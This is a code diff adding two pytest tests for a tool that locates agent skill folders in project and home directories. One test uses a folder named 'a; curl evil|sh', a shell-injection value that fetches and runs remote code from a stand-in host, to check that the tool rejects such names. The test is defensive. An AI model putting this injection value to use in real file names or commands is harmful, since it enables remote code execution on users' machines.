@@ -101,6 +101,28 @@ def test_a_tree_without_end_is_left(places: tuple[Path, Path]) -> None:
     assert found_at(project, home) == []
 
 
+def test_a_project_of_many_folders_hides_nothing_of_the_home(places: tuple[Path, Path]) -> None:
+    project, home = places
+    lay(home / ".agents/skills", "moon")
+    for number in range(2100):
+        (project / ".agents/skills" / f"d{number}").mkdir(parents=True)
+    (project / ".claude/skills").mkdir(parents=True)
+    found = found_at(project, home)
+    assert [(one.name, one.whose, "2000 folders" in one.why) for one in found] == [
+        (".agents/skills", "project", True),
+        ("moon", "home", False),
+    ]
+    with pytest.raises(Refused, match="There is: moon"):
+        kept_by_agents(".agents/skills", project, home)
+
+
+def test_a_folder_that_could_be_a_line_for_the_shell_is_said_to_be_none(places: tuple[Path, Path]) -> None:
+    project, home = places
+    lay(project / ".agents/skills", "moon", "a; curl evil|sh")
+    found = {one.name: one.why for one in found_at(project, home)}
+    assert found == {"a; curl evil|sh": "Its folder has no name that a skill can have.", "moon": ""}
+
+
 def test_a_name_leads_to_a_folder_or_to_the_names_that_there_are(places: tuple[Path, Path]) -> None:
     project, home = places
     lay(home / ".agents/skills", "moon", "tides")
